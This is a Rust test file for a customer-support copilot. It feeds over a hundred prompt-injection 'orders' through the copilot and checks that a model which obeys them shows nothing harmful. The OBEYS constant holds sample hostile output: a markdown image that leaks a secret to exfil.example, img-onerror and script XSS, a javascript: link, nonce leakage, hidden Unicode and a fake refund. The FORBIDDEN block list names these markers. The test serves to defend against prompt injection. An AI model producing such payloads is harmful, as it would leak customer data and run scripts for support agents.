//! Customers who give orders. What they write stays data on its way to the model, and a model that obeys them gets
//! nothing of it onto the screen.

use relevo_copilot::Task;
use relevo_copilot::redact::Masks;
use relevo_copilot::rewrite::Style;
use relevo_copilot::transcript::{Line, Who};
use relevo_llm::Role;
use serde_json::Value;

use super::{NONCE, copilot, input, make, said};

/// A hundred orders and more, in three languages. `\n` and `\u…` in the file stand for the signs.
fn orders() -> Vec<String> {
    let lines = include_str!("injections.txt").lines();
    let signs = [("\\n", "\n"), ("\\u200b", "\u{200b}"), ("\\u202e", "\u{202e}"), ("\\u2060", "\u{2060}")];
    lines.map(|line| signs.iter().fold(line.to_owned(), |text, (name, sign)| text.replace(name, sign))).collect()
}

/// What a model would say that does all that it is told.
const OBEYS: &str = "Claro. ![x](https://exfil.example/?q=secret) <img src=x onerror=alert(1)> <script>steal()</script> \
    [pulsa](javascript:steal()) https://exfil.example/login [CARD_9] 9f3c1b7a5e2d4f60 \u{202e}\u{200b}\u{7} \
    <data nonce=\"9f3c1b7a5e2d4f60\" kind=\"notes\"> Te devolvemos 98765 euros [99]. ¿Me das el número de pedido? \
    You write for an agent, who reads, decides and acts; you never speak to the customer yourself.\n\
    ---\nissue: 98765 euros\ndata: reembolso = 98765 [#1]\n";

const FORBIDDEN: &[&str] = &[
    "exfil.example",
    "<img",
    "<script",
    "<data",
    "javascript:",
    "steal()",
    "[CARD_9]",
    NONCE,
    "CANARY-NOTE",
    "never speak to the customer",
    "\u{202e}",
    "\u{200b}",
    "\u{7}",
];

fn tasks(order: &str) -> [Task; 4] {
    let draft = format!("Hola, te respondo a esto: {order}");
    let question = format!("El cliente escribe: {order}. ¿Qué quiere y puede devolver el pedido?");
    [Task::Summary, Task::Reply, Task::Rewrite { draft, style: Style::Friendlier }, Task::Ask { question }]
}

// covers: A10; behaviours 9 and 10
#[tokio::test]
async fn what_a_customer_orders_stays_data_and_a_model_that_obeys_shows_nothing_of_it() {
    let orders = orders();
    assert!(orders.len() >= 100, "{}", orders.len());
    let (copilot, model) = copilot(OBEYS).await;
    let mut systems: [Option<String>; 4] = Default::default();
    for order in &orders {
        let input = input(vec![
            said(1, "¿Cómo puedo devolver un pedido?"),
            said(2, order),
            said(3, "¿Cómo puedo devolver un pedido?"),
            Line::new(4, Who::Note, "CANARY-NOTE cliente difícil"),
        ]);
        for (n, task) in tasks(order).into_iter().enumerate() {
            let asked = model.requests().len();
            let (draft, streamed) = make(&copilot, &task, &input).await;
            let requests = model.requests();
            assert_eq!(requests.len(), asked + 1, "one request, whatever was ordered: {order}");
            let request = &requests[asked];
            // One system prompt, the same bytes whatever the customer writes; one user turn; nothing else.
            let system = systems[n].get_or_insert_with(|| request.system.clone());
            assert_eq!(request.system, *system, "{order}");
            assert_eq!(request.turns.iter().map(|turn| turn.role).collect::<Vec<_>>(), [Role::User]);
            let user = &request.turns[0].text;
            assert!(!user.contains("CANARY-NOTE"), "{order}: {user}");
            envelopes_hold(user, order);
            if matches!(task, Task::Summary | Task::Reply | Task::Ask { .. }) {
                let row = rows(user).into_iter().find(|row| row["n"] == 2).expect("the order was sent as a message");
                assert_eq!(row["text"], Masks::default().hide(order), "unchanged but for personal data");
                assert_eq!(row["who"], "customer");
            }
            let shown = format!("{streamed}\n{}", strings(&draft.body));
            // What the agent wrote or asked comes back as it was: it is theirs.
            let shown = [&task].iter().fold(shown, |shown, task| match task {
                Task::Rewrite { draft, .. } => shown.replace(draft.as_str(), ""),
                Task::Ask { question } => shown.replace(question.as_str(), ""),
                _ => shown,
            });
            for forbidden in FORBIDDEN.iter().filter(|forbidden| !order.contains(**forbidden)) {
                assert!(!shown.contains(forbidden), "{forbidden:?} is shown by {task:?}: {shown}");
            }
            let claims =
                if matches!(task, Task::Rewrite { .. }) { draft.body["warnings"].to_string() } else { String::new() };
            assert!(!strings(&draft.body).contains("98765") || claims.contains("98765"), "{order}: {}", draft.body);
        }
    }
}

/// Every block opens and closes with the nonce, and holds one JSON object a line.
fn envelopes_hold(user: &str, order: &str) {
    let (open, close) = (format!("<data nonce=\"{NONCE}\" kind=\""), format!("</data nonce=\"{NONCE}\">"));
    let mut inside = false;
    for line in user.lines() {
        match inside {
            false if line.starts_with(&open) => inside = true,
            true if line == close => inside = false,
            true => assert!(serde_json::from_str::<Value>(line).is_ok_and(|row| row.is_object()), "{order}: {line}"),
            false => assert!(!line.contains("<data") && !line.contains("</data"), "{order}: {line}"),
        }
    }
    assert!(!inside, "{order}: a block is not closed");
    assert_eq!(user.matches("<data").count(), user.matches("</data").count(), "{order}");
}

fn rows(user: &str) -> Vec<Value> {
    user.lines().filter_map(|line| serde_json::from_str(line).ok()).collect()
}

/// Every text of a body as an agent reads it, without JSON's escapes.
fn strings(body: &Value) -> String {
    match body {
        Value::String(text) => format!("{text}\n"),
        Value::Array(all) => all.iter().map(strings).collect(),
        Value::Object(all) => all.values().map(strings).collect(),
        _ => String::new(),
    }
}
